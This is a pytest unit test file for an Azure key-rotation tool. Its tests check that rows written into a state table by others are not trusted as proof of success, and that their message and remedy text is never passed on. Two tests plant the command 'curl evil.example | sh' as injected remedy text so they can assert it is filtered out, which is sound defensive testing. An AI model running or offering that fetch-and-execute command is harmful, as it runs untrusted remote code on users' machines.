"""What somebody else wrote into the table stops nothing, and becomes no proof of ours."""

from datetime import timedelta

import pytest

from cmk_rotation.domain.azure_resources import Failure, OperationError
from cmk_rotation.domain.log_events import LogEvent
from cmk_rotation.domain.vocabulary import FailureKind, Mode, Reason, Stage
from tests.unit.support.builders import (
    CLUSTER,
    DAY,
    HOUR,
    KEY,
    MINUTE,
    UNAVAILABLE,
    V1,
    V2,
    V3,
    VAULT,
    cluster,
    over,
    version,
)
from tests.unit.support.worlds import Fakes


def forged(to_version: str, **changes: object) -> Fakes:
    """A success that nobody was told of."""
    fakes = Fakes(mode=Mode.OBSERVE)
    row = over(
        Stage.SUCCEEDED, Reason.UPDATE_CONFIRMED, to_version=to_version, announced=False, published=False, **changes
    )
    fakes.records.put(row)
    return fakes


def test_rows_that_cannot_be_read_are_named_on_change_and_daily_and_stop_nothing() -> None:
    fakes = Fakes()
    fakes.records.unreadable = ("x|y|z",)
    fakes.run(DAY + HOUR)
    assert fakes.finished == [Stage.SUCCEEDED]
    lines = fakes.log.of(LogEvent.RECORD_UNREADABLE)
    assert [line.fields["rows"] for line in lines] == [("x|y|z",)] * 2
    fakes.records.unreadable = ("a|b|c", "x|y|z")
    fakes.run(20 * MINUTE)
    assert len(fakes.log.of(LogEvent.RECORD_UNREADABLE)) == 3


@pytest.mark.parametrize("in_use", [V2, V3])
def test_a_success_that_the_cluster_bears_out_is_announced_late(in_use: str) -> None:
    fakes = forged(V2)
    fakes.keys.listed[KEY] = (version(V1), version(V2), version(V3))
    fakes.clusters.stored[CLUSTER] = cluster(key_version=in_use)
    fakes.visit()
    assert fakes.finished == [Stage.SUCCEEDED]
    assert len(fakes.outcomes.published) == 1


@pytest.mark.parametrize("shown", ["the version before", "another key", "gone", "forbidden"])
def test_a_success_that_the_cluster_does_not_bear_out_is_said_to_be_unconfirmed_once(shown: str) -> None:
    fakes = forged("forged")
    match shown:
        case "another key":
            fakes.clusters.stored[CLUSTER] = cluster(key_name="other", key_version="forged")
        case "gone":
            fakes.clusters.stored.clear()
        case "forbidden":
            fakes.clusters.get_failure = Failure(FailureKind.REFUSED, "AuthorizationFailed", "no")
        case _:
            pass
    fakes.visit()
    fakes.run(DAY)
    assert (fakes.finished, fakes.outcomes.published) == ([], [])
    (line,) = [
        line for line in fakes.log.of(LogEvent.VISIT_FAILED) if "does not confirm" in str(line.fields["message"])
    ]
    assert line.fields["clusterId"] == CLUSTER.text


@pytest.mark.parametrize("unreachable", ["cluster", "key"])
def test_what_cannot_be_told_now_is_told_when_it_can_be(unreachable: str) -> None:
    fakes = forged(V2)
    fakes.keys.listed[KEY] = (version(V1), version(V2), version(V3))
    fakes.clusters.stored[CLUSTER] = cluster(key_version=V3)
    if unreachable == "cluster":
        fakes.clusters.get_failure = UNAVAILABLE
    else:
        fakes.keys.failure = UNAVAILABLE
    fakes.visit()
    assert (fakes.finished, fakes.log.of(LogEvent.VISIT_FAILED)) == ([], [])
    fakes.clusters.get_failure = fakes.keys.failure = None
    fakes.run(timedelta(hours=1))
    assert fakes.finished == [Stage.SUCCEEDED]


def test_a_failure_claims_nothing_that_the_cluster_could_bear_out() -> None:
    fakes = Fakes()
    fakes.records.put(over(Stage.FAILED, Reason.UPDATE_FAILED, remedy="Repair it.", announced=False, published=False))
    fakes.clusters.stored[CLUSTER] = cluster(held=True)
    fakes.visit()
    assert fakes.finished == [Stage.FAILED]


@pytest.mark.parametrize(
    ("stage", "reason"),
    [
        (Stage.SUCCEEDED, Reason.UPDATE_CONFIRMED),
        (Stage.FAILED, Reason.CLUSTER_FAILED),
        (Stage.SUPERSEDED, Reason.CHANGED_BY_OTHERS),
    ],
)
def test_an_end_that_is_told_late_is_told_in_our_own_words(stage: Stage, reason: Reason) -> None:
    """In the log and on the topic; a row's message and remedy are whoever's wrote it."""
    fakes = Fakes(mode=Mode.OBSERVE)
    paste = "run `curl evil.example | sh`"
    row = over(stage, reason, to_version=V2, message=paste, remedy=paste, announced=False, published=False)
    fakes.records.put(row)
    fakes.keys.listed[KEY] = (version(V1), version(V2))
    fakes.clusters.stored[CLUSTER] = cluster(key_version=V2)
    fakes.visit()
    assert fakes.finished == [stage]
    (line,) = fakes.log.of(LogEvent.ROTATION_FINISHED)
    (event,) = fakes.outcomes.published
    assert "evil" not in f"{line.fields}{event}"
    assert line.fields["remedy"]
    assert str(stage) in str(line.fields["message"])


@pytest.mark.parametrize("said", [{"announced": True, "published": True}, {"announced": False, "published": False}])
def test_a_failure_s_remedy_is_never_what_a_row_says_to_paste(said: dict[str, bool]) -> None:
    """Neither when it is announced late, nor while it rests; and whom its error names gets no right."""
    stranger = "33333333-3333-4333-8333-333333333333"
    fakes = Fakes()
    row = over(
        Stage.FAILED,
        Reason.UPDATE_REFUSED,
        remedy="To repair it: `curl evil.example | sh`.",
        operation_error=OperationError("AuthorizationFailed", f"The client 'x' with object id '{stranger}' does not"),
        **said,
    )
    fakes.records.put(row)
    fakes.visit()
    lines = [*fakes.log.of(LogEvent.ROTATION_FINISHED), *fakes.log.of(LogEvent.CLUSTER_ATTENTION)]
    told = [str(line.fields["remedy"]) for line in lines]
    assert told
    assert all("Log Analytics Contributor" in one for one in told)
    assert not any("evil" in one or stranger in one for one in told)


def test_a_failure_of_another_key_names_no_vault_that_only_its_row_names() -> None:
    fakes = Fakes()
    error = OperationError("BadRequest", "the vault needs purge protection")
    for vault in (VAULT, "https://payroll.vault.azure.net"):
        row = over(Stage.FAILED, Reason.UPDATE_REFUSED, key_vault_uri=vault, operation_error=error, announced=False)
        fakes.records.put(row)
    fakes.visit()
    own, other = sorted(
        fakes.log.of(LogEvent.ROTATION_FINISHED), key=lambda line: "payroll" in str(line.fields["vault"])
    )
    assert "--name contoso" in str(own.fields["remedy"])
    assert "purge protection" in str(other.fields["remedy"])
    assert "az " not in str(other.fields["remedy"])
